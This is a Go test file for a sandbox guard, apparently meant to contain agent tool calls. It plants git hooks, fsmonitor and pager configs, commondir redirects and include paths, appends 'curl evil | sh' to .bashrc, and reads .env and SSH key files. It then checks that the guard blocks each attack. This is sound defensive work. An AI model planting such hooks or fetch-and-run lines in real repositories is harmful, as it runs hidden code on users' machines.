package local

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wardenhq/warden/backend"
	"github.com/wardenhq/warden/calls"
)

// gitEnv is the environment the tests' own git commands run with: no
// user or system configuration.
func gitEnv(home string) []string {
	return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com"}
}

// git runs git in dir outside any sandbox, as the user would later.
func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = gitEnv(t.TempDir())
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Logf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

// newRepo makes a workspace that is a git repository with one commit.
func newRepo(t *testing.T) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	git(t, dir, "init", "-q")
	if err := os.WriteFile(filepath.Join(dir, "a.txt"), []byte("a\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, dir, "add", "a.txt")
	git(t, dir, "commit", "-q", "-m", "initial")
	return dir
}

// callProfile is the profile decide.Profile gives a call that writes the
// workspace ws: the working directory writable, .git/hooks and
// .git/config read-only (the policy's statement), git as stated.
func callProfile(ws string, isGit bool) *calls.Sandbox {
	return &calls.Sandbox{Write: []string{ws}, Dirs: []string{ws}, Git: isGit,
		Protect: []string{filepath.Join(ws, ".git", "hooks"), filepath.Join(ws, ".git", "config")}}
}

// run runs the shell script in ws under prof on b.
func run(t *testing.T, b *Backend, ws string, prof *calls.Sandbox, script string) backend.ExecResult {
	t.Helper()
	res, err := b.Exec(backend.WithSandbox(t.Context(), prof), backend.ExecRequest{Argv: []string{"/bin/sh", "-c", script}, Dir: ws,
		Env: []string{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + ws}})
	if err != nil {
		t.Fatalf("exec: %v", err)
	}
	return res
}

func newBackend(t *testing.T, ws string, guard bool) *Backend {
	b := &Backend{Workdir: ws, CacheDir: t.TempDir(), NoGitGuard: !guard}
	t.Cleanup(func() { _ = b.Close() })
	return b
}

// fsmonitor is a config section whose core.fsmonitor touches mark: git
// runs it at the next status.
func fsmonitor(mark string) string {
	return fmt.Sprintf("[core]\n\tfsmonitor = \"touch %s; false\"\n", mark)
}

// TestGuardRepositoryIntegrity: each attack on a repository runs (its
// marker printed) in a sandboxed call that is not an allowed git
// command. With the guard off (and the profile's own protection off: the
// sandbox protecting nothing in .git) a later git command run outside
// the sandbox runs the planted command; with only the profile's own
// protection (.git/hooks and .git/config read-only, as before the guard)
// all but those two still do; with the guard on none does.
func TestGuardRepositoryIntegrity(t *testing.T) {
	type attack struct {
		name  string
		setup func(t *testing.T, ws string)
		// script is the call; mark is where the planted command writes.
		script func(ws, mark string) string
		// later is the git command the user runs afterwards.
		later []string
		// dir is where later runs (relative to ws).
		dir string
		// oldBlocks: the profile's own protection (.git/hooks and
		// .git/config read-only) stops it without the guard.
		oldBlocks bool
	}
	attacks := []attack{
		{name: "hook written", oldBlocks: true, later: []string{"commit", "-q", "--allow-empty", "-m", "x"},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", mark)
			}},
		{name: "config written", oldBlocks: true, later: []string{"status"},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '%s' >> .git/config", fsmonitor(mark))
			}},
		{name: "commondir created", later: []string{"status"},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; cp -r .git copy && printf '%s' >> copy/config && echo %s/copy > .git/commondir", fsmonitor(mark), ws)
			}},
		{name: ".git renamed and replaced", later: []string{"status"},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; mv .git old && cp -r old .git && printf '%s' >> .git/config", fsmonitor(mark))
			}},
		{name: "modules/x/config", dir: "x", later: []string{"status"},
			setup: func(t *testing.T, ws string) {
				sub := filepath.Join(ws, "x")
				git(t, ws, "init", "-q", "x")
				if err := os.MkdirAll(filepath.Join(ws, ".git", "modules"), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Rename(filepath.Join(sub, ".git"), filepath.Join(ws, ".git", "modules", "x")); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(sub, ".git"), []byte("gitdir: ../.git/modules/x\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				git(t, sub, "config", "core.worktree", "../../../x")
			},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '%s' >> .git/modules/x/config", fsmonitor(mark))
			}},
		{name: "worktrees/x", dir: "wt", later: []string{"status"},
			setup: func(t *testing.T, ws string) {
				git(t, ws, "worktree", "add", "-q", "wt")
			},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; cp -r .git copy && printf '%s' >> copy/config && echo %s/copy > .git/worktrees/wt/commondir", fsmonitor(mark), ws)
			}},
		{name: "hooks dir created when missing", later: []string{"commit", "-q", "--allow-empty", "-m", "x"},
			setup: func(t *testing.T, ws string) {
				if err := os.RemoveAll(filepath.Join(ws, ".git", "hooks")); err != nil {
					t.Fatal(err)
				}
			},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; mkdir .git/hooks; printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", mark)
			}},
		{name: "new sub/.git with core.fsmonitor", dir: "sub", later: []string{"status"},
			script: func(ws, mark string) string {
				return fmt.Sprintf("echo ATTEMPT; mkdir sub && cd sub && git init -q && printf '%s' >> .git/config", fsmonitor(mark))
			}},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel() // each attack has its own repositories and backends
			// control: no guard, nothing in .git protected; old: no
			// guard, the profile's own protection; guard: both.
			for _, mode := range []string{"control", "old", "guard"} {
				ws := newRepo(t)
				if a.setup != nil {
					a.setup(t, ws)
				}
				mark := filepath.Join(t.TempDir(), "planted-command-ran")
				b := newBackend(t, ws, mode == "guard")
				prof := callProfile(ws, false)
				if mode == "control" {
					prof.Protect = nil
				}
				res := run(t, b, ws, prof, a.script(ws, mark))
				if !strings.Contains(string(res.Stdout), "ATTEMPT") {
					t.Fatalf("%s: the attack did not run: %+v", mode, res)
				}
				git(t, filepath.Join(ws, a.dir), a.later...)
				_, err := os.Stat(mark)
				ran := err == nil
				switch {
				case mode == "control" && !ran:
					t.Errorf("control: the planted command did not run: %s", res.Stderr)
				case mode == "old" && ran == a.oldBlocks:
					t.Errorf("without the guard, with the profile's protection: planted command ran %v, want %v", ran, !a.oldBlocks)
				case mode == "guard" && ran:
					t.Errorf("guard on: git ran the planted command; call's stderr: %s", res.Stderr)
				}
				if mode == "guard" {
					t.Logf("guard on: exit %d, stderr: %s", res.ExitCode, strings.TrimSpace(string(res.Stderr)))
				}
			}
		})
	}
}

// TestGuardAllowedGit: a git command allowed to write (Git) adds and
// commits; a hook, commondir or hooks directory it plants is undone, a
// clean repository it creates stays, an unclean one is moved aside.
func TestGuardAllowedGit(t *testing.T) {
	ws := newRepo(t)
	b := newBackend(t, ws, true)
	prof := callProfile(ws, true)
	if err := os.WriteFile(filepath.Join(ws, "b.txt"), []byte("b\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	res := run(t, b, ws, prof, "git add b.txt && git -c user.name=t -c user.email=t@e commit -q -m second && echo COMMITTED")
	if res.ExitCode != 0 || !strings.Contains(string(res.Stdout), "COMMITTED") {
		t.Fatalf("git add + commit: %+v (stderr %s)", res, res.Stderr)
	}
	if log := git(t, ws, "log", "--oneline"); !strings.Contains(log, "second") {
		t.Fatalf("the commit is not in the log: %s", log)
	}

	// The configuration stays read-only; a name it creates is removed.
	mark := filepath.Join(t.TempDir(), "planted")
	res = run(t, b, ws, prof, fmt.Sprintf("echo ATTEMPT; printf '%s' >> .git/config; echo %s/x > .git/commondir; echo $?", fsmonitor(mark), ws))
	if !strings.Contains(string(res.Stdout), "ATTEMPT") {
		t.Fatalf("did not run: %+v", res)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git", "commondir")); err == nil {
		t.Errorf(".git/commondir is still there; stderr %s", res.Stderr)
	}
	if !strings.Contains(string(res.Stderr), "warden: removed "+filepath.Join(ws, ".git", "commondir")) {
		t.Errorf("the result does not say commondir was removed: %s", res.Stderr)
	}
	git(t, ws, "status")
	if _, err := os.Stat(mark); err == nil {
		t.Errorf("git ran the planted fsmonitor")
	}

	// A hooks directory created when missing is removed.
	if err := os.RemoveAll(filepath.Join(ws, ".git", "hooks")); err != nil {
		t.Fatal(err)
	}
	res = run(t, b, ws, prof, fmt.Sprintf("echo ATTEMPT; mkdir .git/hooks && printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo PLANTED", mark))
	if !strings.Contains(string(res.Stdout), "PLANTED") {
		t.Fatalf("the hook was not planted (the attempt must reach the name): %+v %s", res, res.Stderr)
	}
	git(t, ws, "commit", "-q", "--allow-empty", "-m", "later")
	if _, err := os.Stat(mark); err == nil {
		t.Errorf("git ran the planted hook; stderr %s", res.Stderr)
	}
	if !strings.Contains(string(res.Stderr), "warden: removed "+filepath.Join(ws, ".git", "hooks")) {
		t.Errorf("the result does not say hooks was removed: %s", res.Stderr)
	}

	// A clean repository made by git stays; one with a planted hook is
	// moved aside.
	res = run(t, b, ws, prof, fmt.Sprintf("git init -q clean && git init -q dirty && printf '#!/bin/sh\\ntouch %s\\n' > dirty/.git/hooks/post-checkout && echo DONE", mark))
	if !strings.Contains(string(res.Stdout), "DONE") {
		t.Fatalf("did not run: %+v %s", res, res.Stderr)
	}
	if fi, err := os.Stat(filepath.Join(ws, "clean", ".git")); err != nil || !fi.IsDir() {
		t.Errorf("the clean repository's .git is gone: %v; stderr %s", err, res.Stderr)
	}
	if _, err := os.Lstat(filepath.Join(ws, "dirty", ".git")); err == nil {
		t.Errorf("the planted repository's .git stayed; stderr %s", res.Stderr)
	}
	if _, err := os.Lstat(filepath.Join(ws, "dirty", ".git.warden-quarantine-1")); err != nil {
		t.Errorf("the planted repository's .git was not moved aside: %v", err)
	}
}

// TestGuardSensitiveFiles: a workspace .env read by an allowed program
// is empty with the guard on, printed with it off, and printed when the
// call was granted the read.
func TestGuardSensitiveFiles(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{".env", "deploy/id_ed25519"} {
		p := filepath.Join(ws, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("SECRET=s3cr3t\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	script := `python3 -c "import sys; print('ATTEMPT'); print(open('.env').read(), open('deploy/id_ed25519').read())"`
	prof := &calls.Sandbox{Dirs: []string{ws}} // read-only
	for _, c := range []struct {
		name   string
		guard  bool
		read   []string
		secret bool
	}{{"guard off", false, nil, true}, {"guard on", true, nil, false}, {"granted", true, []string{ws + "/.env", ws + "/deploy/id_*"}, true}} {
		b := newBackend(t, ws, c.guard)
		p := *prof
		p.Read = c.read
		res := run(t, b, ws, &p, script)
		out := string(res.Stdout)
		if !strings.Contains(out, "ATTEMPT") {
			t.Fatalf("%s: did not run: %+v %s", c.name, res, res.Stderr)
		}
		if got := strings.Count(out, "s3cr3t"); (got == 2) != c.secret || (got != 0 && got != 2) {
			t.Errorf("%s: the secrets printed %d times: %q", c.name, got, out)
		}
	}
}

// TestGuardDangerousPaths: an existing rc file is read-only, a .vscode
// directory the call creates is moved aside; granted, both are written.
func TestGuardDangerousPaths(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	rc := filepath.Join(ws, ".bashrc")
	if err := os.WriteFile(rc, []byte("# rc\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	script := "echo ATTEMPT; echo 'curl evil | sh' >> .bashrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json"
	for _, c := range []struct {
		name    string
		guard   bool
		granted []string
		written bool
	}{{"guard off", false, nil, true}, {"guard on", true, nil, false}, {"granted", true, []string{rc, ws + "/.vscode/**"}, true}} {
		_ = os.WriteFile(rc, []byte("# rc\n"), 0o644)
		_ = os.RemoveAll(filepath.Join(ws, ".vscode"))
		b := newBackend(t, ws, c.guard)
		res := run(t, b, ws, &calls.Sandbox{Write: []string{ws}, Dirs: []string{ws}, Granted: c.granted}, script)
		if !strings.Contains(string(res.Stdout), "ATTEMPT") {
			t.Fatalf("%s: did not run: %+v", c.name, res)
		}
		data, _ := os.ReadFile(rc)
		_, verr := os.Stat(filepath.Join(ws, ".vscode", "tasks.json"))
		t.Logf("%s: exit %d, stderr %s", c.name, res.ExitCode, res.Stderr)
		if strings.Contains(string(data), "evil") != c.written || (verr == nil) != c.written {
			t.Errorf("%s: .bashrc %q, .vscode/tasks.json: %v; stderr %s", c.name, data, verr, res.Stderr)
		}
		if c.guard && !c.written && !strings.Contains(string(res.Stderr), "warden: moved "+filepath.Join(ws, ".vscode")+" aside") {
			t.Errorf("%s: the result does not say .vscode was moved aside: %s", c.name, res.Stderr)
		}
	}
}

// TestIndexIncremental: the index sees names created in new nested
// directories, renamed trees and removed entries, with inotify and
// without it (every refresh walks).
func TestIndexIncremental(t *testing.T) {
	for _, watched := range []bool{true, false} {
		ws, err := filepath.EvalSymlinks(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		x := newIndex(newMatcher(nil))
		if !watched {
			x.close()
		}
		paths := func() []string {
			s, err := x.refresh([]string{ws})
			if err != nil {
				t.Fatal(err)
			}
			var out []string
			for _, m := range s.list {
				out = append(out, strings.TrimPrefix(m.path, ws+"/"))
			}
			return out
		}
		if got := paths(); len(got) != 0 {
			t.Fatalf("empty workspace: %q", got)
		}
		must := func(err error) {
			t.Helper()
			if err != nil {
				t.Fatal(err)
			}
		}
		must(os.MkdirAll(filepath.Join(ws, "a", "b"), 0o755))
		must(os.WriteFile(filepath.Join(ws, "a", "b", ".env"), nil, 0o644))
		must(os.Mkdir(filepath.Join(ws, "a", "b", ".git"), 0o755))
		must(os.Mkdir(filepath.Join(ws, "a", "b", ".git", "x.pem"), 0o755)) // inside .git: not indexed
		if got := strings.Join(paths(), " "); got != "a/b/.env a/b/.git" {
			t.Errorf("watched %v: after creating: %q", watched, got)
		}
		must(os.Rename(filepath.Join(ws, "a"), filepath.Join(ws, "c")))
		must(os.WriteFile(filepath.Join(ws, "c", ".bashrc"), nil, 0o644))
		if got := strings.Join(paths(), " "); got != "c/.bashrc c/b/.env c/b/.git" {
			t.Errorf("watched %v: after renaming: %q", watched, got)
		}
		must(os.Remove(filepath.Join(ws, "c", "b", ".env")))
		must(os.RemoveAll(filepath.Join(ws, "c", "b")))
		if got := strings.Join(paths(), " "); got != "c/.bashrc" {
			t.Errorf("watched %v: after removing: %q", watched, got)
		}
		x.close()
	}
}

// TestUnsafeConfig: git's own configuration passes; a key that runs a
// command, an include or an unusual shape does not.
func TestUnsafeConfig(t *testing.T) {
	clean := "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"
	if k := unsafeConfig([]byte(clean)); k != "" {
		t.Errorf("clean config refused: %s", k)
	}
	for _, bad := range []string{
		"[core]\n\tfsmonitor = touch x\n",
		"[core]\n\thooksPath = /tmp\n",
		"[include]\n\tpath = /tmp/x\n",
		"[core] fsmonitor = x\n",
		"[core]\n\tbare = false \\\n\tfsmonitor = x\n",
		"[alias]\n\tst = !sh\n",
		"[filter \"x\"]\n\tclean = sh\n",
		"[remote \"o\"]\n\turl = ext::sh -c x\n",
		"\ufeff[core]\n\tbare = false\n",
		"[core.x]\n\tbare = false\n",
	} {
		if unsafeConfig([]byte(bad)) == "" {
			t.Errorf("accepted %q", bad)
		}
	}
}

// TestGuardDanglingLinks: a dangling .gitconfig link does not make
// every call fail (a mount on it would), and a .git link a call plants
// is moved aside.
func TestGuardDanglingLinks(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/nonexistent/gitconfig", filepath.Join(ws, ".gitconfig")); err != nil {
		t.Fatal(err)
	}
	b := newBackend(t, ws, true)
	prof := &calls.Sandbox{Write: []string{ws}, Dirs: []string{ws}}
	res := run(t, b, ws, prof, "echo RAN; mkdir sub && ln -s "+ws+"/elsewhere sub/.git")
	if res.ExitCode != 0 || !strings.Contains(string(res.Stdout), "RAN") {
		t.Fatalf("a call in a workspace with a dangling link: %+v %s", res, res.Stderr)
	}
	if _, err := os.Lstat(filepath.Join(ws, "sub", ".git")); err == nil {
		t.Errorf("the planted .git link stayed: %s", res.Stderr)
	}
	if !strings.Contains(string(res.Stderr), "a .git link") && !strings.Contains(string(res.Stderr), "moved "+filepath.Join(ws, "sub", ".git")) {
		t.Errorf("the result does not say the link was moved aside: %s", res.Stderr)
	}
}

// TestMatcher: the compiled sensitive and dangerous tests agree with
// the policy's patterns on the common shapes.
func TestMatcher(t *testing.T) {
	m := newMatcher([]string{"/srv/data{,/**}", "**/secrets/*.yaml"})
	for p, want := range map[string]kind{
		"/w/.env": kindSensitive | kindDangerous, "/w/a/.env.local": kindSensitive | kindDangerous, "/w/.envrc": kindSensitive | kindDangerous,
		"/w/k/id_ed25519": kindSensitive, "/w/k/id_ed25519.pub": kindSensitive, "/w/tls/server.pem": kindSensitive,
		"/w/.npmrc": kindSensitive | kindDangerous, "/w/x/.docker/config.json": kindSensitive, "/w/.cargo/credentials.toml": kindSensitive,
		"/w/.bashrc": kindSensitive | kindDangerous, "/w/.gitconfig": kindDangerous, "/w/.gitmodules": kindDangerous,
		"/w/secrets/db.yaml": kindSensitive, "/srv/data": kindSensitive, "/w/.git": kindGit,
		"/w/main.go": 0, "/w/config.json": 0, "/w/env": 0, "/w/pem": 0, "/w/secrets/db.json": 0,
	} {
		if got := m.kind(p, filepath.Base(p), false); got != want {
			t.Errorf("%s: kind %b, want %b", p, got, want)
		}
	}
	for p, want := range map[string]kind{"/w/.vscode": kindDangerous, "/w/.idea": kindDangerous, "/w/.ssh": kindSensitive | kindDangerous, "/w/.aws": kindSensitive, "/w/src": 0} {
		if got := m.kind(p, filepath.Base(p), true); got != want {
			t.Errorf("%s (a directory): kind %b, want %b", p, got, want)
		}
	}
}

// TestGuardVerifierRestores: were a protected configuration file changed
// during a git call (its read-only mount is what prevents it), the
// verifier restores it and says so; a created commondir is removed.
func TestGuardVerifierRestores(t *testing.T) {
	ws := newRepo(t)
	b := newBackend(t, ws, true)
	cfg := filepath.Join(ws, ".git", "config")
	before, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	_, pin, prot, g, err := b.guard(callProfile(ws, true), []string{ws}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(pin, " "), filepath.Join(ws, ".git")) || !strings.Contains(strings.Join(prot, " "), cfg) {
		t.Fatalf("pin %q protect %q", pin, prot)
	}
	// What the call would have done, done here outside any sandbox.
	if err := os.WriteFile(cfg, append(before, fsmonitor("/tmp/x")...), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, ".git", "commondir"), []byte("/tmp\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	res, err := g.verify(backend.ExecResult{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if after, _ := os.ReadFile(cfg); string(after) != string(before) {
		t.Errorf("config not restored: %q", after)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git", "commondir")); err == nil {
		t.Error("commondir not removed")
	}
	for _, want := range []string{"warden: restored " + cfg, "warden: removed " + filepath.Join(ws, ".git", "commondir")} {
		if !strings.Contains(string(res.Stderr), want) {
			t.Errorf("stderr %q does not say %q", res.Stderr, want)
		}
	}
}

// TestGuardConcurrentCalls: what a call granted a dangerous path makes
// is not undone by the check of a call that ran at the same time; the
// same creation by an ungranted call alone is.
func TestGuardConcurrentCalls(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b := newBackend(t, ws, true)
	granted := &calls.Sandbox{Write: []string{ws}, Dirs: []string{ws}, Granted: []string{ws + "/.vscode/**"}}
	plain := &calls.Sandbox{Write: []string{ws}, Dirs: []string{ws}}
	_, _, _, ga, err := b.guard(granted, []string{ws}, nil)
	if err != nil {
		t.Fatal(err)
	}
	_, _, _, gb, err := b.guard(plain, []string{ws}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(ws, ".vscode"), 0o755); err != nil { // the granted call's doing
		t.Fatal(err)
	}
	for _, g := range []*guardCall{gb, ga} {
		if notes, err := g.check(); err != nil || len(notes) != 0 {
			t.Errorf("notes %q, err %v", notes, err)
		}
	}
	if _, err := os.Stat(filepath.Join(ws, ".vscode")); err != nil {
		t.Fatalf("the granted .vscode was moved: %v", err)
	}
	// Control: an ungranted call alone.
	if err := os.Remove(filepath.Join(ws, ".vscode")); err != nil {
		t.Fatal(err)
	}
	_, _, _, gc, err := b.guard(plain, []string{ws}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(ws, ".vscode"), 0o755); err != nil {
		t.Fatal(err)
	}
	if notes, err := gc.check(); err != nil || len(notes) != 1 {
		t.Errorf("alone: notes %q, err %v", notes, err)
	}
}

// inTerminal runs the git command in dir outside any sandbox in a
// pseudo-terminal (script(1)), as a user in a terminal would: git
// starts its pager then.
func inTerminal(t *testing.T, dir string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath("script"); err != nil {
		t.Fatalf("script(1) is needed to give git a terminal: %v", err)
	}
	cmd := exec.Command("script", "-qec", "git "+strings.Join(args, " "), "/dev/null")
	cmd.Dir, cmd.Env = dir, gitEnv(t.TempDir())
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// TestGuardRepositoriesGitFinds: a repository git would find that is
// not a .git: a bare repository planted in a subdirectory (HEAD,
// objects, refs, a config whose core.pager runs a command), a hooks
// directory core.hooksPath names (existing, and missing), a file
// include.path names. Each attack prints its marker; with the guard off
// the user's later git command runs the planted command, with it on it
// does not, and the result says what was done.
func TestGuardRepositoriesGitFinds(t *testing.T) {
	hook := func(dir, mark string) string {
		return fmt.Sprintf("mkdir -p %s && printf '#!/bin/sh\\ntouch %s\\n' > %s/pre-commit && chmod +x %s/pre-commit", dir, mark, dir, dir)
	}
	commit := func(t *testing.T, ws, dir string) {
		git(t, filepath.Join(ws, dir), "commit", "-q", "--allow-empty", "-m", "later")
	}
	for _, c := range []struct {
		name   string
		setup  func(t *testing.T, ws string)
		script func(mark string) string
		later  func(t *testing.T, ws string)
		note   string
	}{
		{name: "bare repository planted in src",
			setup: func(t *testing.T, ws string) {
				if err := os.MkdirAll(filepath.Join(ws, "src"), 0o755); err != nil {
					t.Fatal(err)
				}
			},
			script: func(mark string) string {
				return fmt.Sprintf("echo ATTEMPT; cp -r .git/objects .git/refs .git/HEAD src/ && printf '[core]\\n\\tpager = \"touch %s; cat\"\\n' > src/config", mark)
			},
			later: func(t *testing.T, ws string) { inTerminal(t, filepath.Join(ws, "src"), "log", "-1") },
			note:  "src/HEAD aside"},
		{name: "existing bare repository's config written",
			setup: func(t *testing.T, ws string) {
				git(t, ws, "clone", "-q", "--bare", ws, filepath.Join(ws, "mirror.git"))
			},
			script: func(mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '[core]\\n\\tpager = \"touch %s; cat\"\\n' >> mirror.git/config", mark)
			},
			later: func(t *testing.T, ws string) { inTerminal(t, filepath.Join(ws, "mirror.git"), "log", "-1") }},
		{name: "hooksPath directory existing",
			setup: func(t *testing.T, ws string) {
				git(t, ws, "config", "core.hooksPath", ".githooks")
				if err := os.Mkdir(filepath.Join(ws, ".githooks"), 0o755); err != nil {
					t.Fatal(err)
				}
			},
			script: func(mark string) string { return "echo ATTEMPT; " + hook(".githooks", mark) },
			later:  func(t *testing.T, ws string) { commit(t, ws, "") }},
		{name: "hooksPath directory missing",
			setup:  func(t *testing.T, ws string) { git(t, ws, "config", "core.hooksPath", ".githooks") },
			script: func(mark string) string { return "echo ATTEMPT; " + hook(".githooks", mark) },
			later:  func(t *testing.T, ws string) { commit(t, ws, "") },
			note:   ".githooks aside"},
		{name: "include.path file missing",
			setup: func(t *testing.T, ws string) { git(t, ws, "config", "include.path", "../shared.gitconfig") },
			script: func(mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' > shared.gitconfig", mark)
			},
			later: func(t *testing.T, ws string) { git(t, ws, "status") },
			note:  "shared.gitconfig aside"},
		{name: "include.path file existing",
			setup: func(t *testing.T, ws string) {
				git(t, ws, "config", "include.path", "../shared.gitconfig")
				if err := os.WriteFile(filepath.Join(ws, "shared.gitconfig"), []byte("[user]\n\tname = x\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			},
			script: func(mark string) string {
				return fmt.Sprintf("echo ATTEMPT; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' >> shared.gitconfig", mark)
			},
			later: func(t *testing.T, ws string) { git(t, ws, "status") }},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel() // each case has its own repositories and backends
			for _, guard := range []bool{false, true} {
				for _, isGit := range []bool{false, true} {
					if !guard && isGit {
						continue
					}
					ws := newRepo(t)
					c.setup(t, ws)
					mark := filepath.Join(t.TempDir(), "planted-command-ran")
					b := newBackend(t, ws, guard)
					res := run(t, b, ws, callProfile(ws, isGit), c.script(mark))
					if !strings.Contains(string(res.Stdout), "ATTEMPT") {
						t.Fatalf("guard %v: the attack did not run: %+v %s", guard, res, res.Stderr)
					}
					c.later(t, ws)
					_, err := os.Stat(mark)
					ran := err == nil
					t.Logf("guard %v, git %v: exit %d, stderr %s; planted command ran: %v", guard, isGit, res.ExitCode, strings.TrimSpace(string(res.Stderr)), ran)
					switch {
					case !guard && !ran:
						t.Errorf("control (guard off): the planted command did not run, so the case proves nothing")
					case guard && ran:
						t.Errorf("guard on (git %v): the planted command ran", isGit)
					case guard && c.note != "" && !strings.Contains(string(res.Stderr), c.note):
						t.Errorf("guard on (git %v): the result does not say %q: %s", isGit, c.note, res.Stderr)
					}
				}
			}
		})
	}
}

// TestGuardDirectoryFlood: a call that makes its working directory
// hold more directories than the guard's bound (here 2,000) and plants
// sub/.git with core.fsmonitor is stopped with its new trees moved out
// of the workspace (said in the result); the planted .git is moved
// aside and the next call runs. With the guard off the fsmonitor runs.
func TestGuardDirectoryFlood(t *testing.T) {
	const bound = 2000
	for _, c := range []struct{ name, mk string }{
		{"in a new directory", "os.makedirs('flood'); [os.mkdir('flood/%d'%i) for i in range(N)]"},
		{"in an existing directory", "[os.mkdir('data/%d'%i) for i in range(N)]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, guard := range []bool{false, true} {
				ws := newRepo(t)
				for _, d := range []string{"sub", "data"} {
					if err := os.Mkdir(filepath.Join(ws, d), 0o755); err != nil {
						t.Fatal(err)
					}
				}
				mark := filepath.Join(t.TempDir(), "planted-command-ran")
				b := newBackend(t, ws, guard)
				b.GuardMaxDirs = bound
				prof := callProfile(ws, false)
				script := fmt.Sprintf("python3 -c \"import os,subprocess; print('ATTEMPT'); N=%d; %s; subprocess.run(['git','init','-q','sub']); open('sub/.git/config','a').write('[core]\\n\\tfsmonitor = touch %s\\n')\"", bound+1, c.mk, mark)
				res := run(t, b, ws, prof, script)
				if !strings.Contains(string(res.Stdout), "ATTEMPT") {
					t.Fatalf("guard %v: the flood did not run: %+v %s", guard, res, res.Stderr)
				}
				t.Logf("guard %v: exit %d, limit %q, stderr %.600s", guard, res.ExitCode, res.Limit, res.Stderr)
				git(t, filepath.Join(ws, "sub"), "status")
				_, err := os.Stat(mark)
				if ran := err == nil; ran != !guard {
					t.Errorf("guard %v: the planted fsmonitor ran: %v", guard, ran)
				}
				if !guard {
					continue
				}
				if !strings.HasPrefix(res.Limit, "directories: ") {
					t.Errorf("the result does not say the call was stopped for its directories: limit %q", res.Limit)
				}
				q, _ := filepath.Glob(filepath.Join(filepath.Dir(ws), ".warden-quarantine", filepath.Base(ws)+"-*"))
				if len(q) != 1 || !strings.Contains(res.Limit, q[0]) {
					t.Errorf("quarantine %q, limit %q", q, res.Limit)
				}
				next := run(t, b, ws, prof, "echo NEXT; git status --short >/dev/null; echo $?")
				if next.ExitCode != 0 || !strings.Contains(string(next.Stdout), "NEXT") {
					t.Errorf("the call after the flood: %+v %s", next, next.Stderr)
				}
			}
		})
	}
}
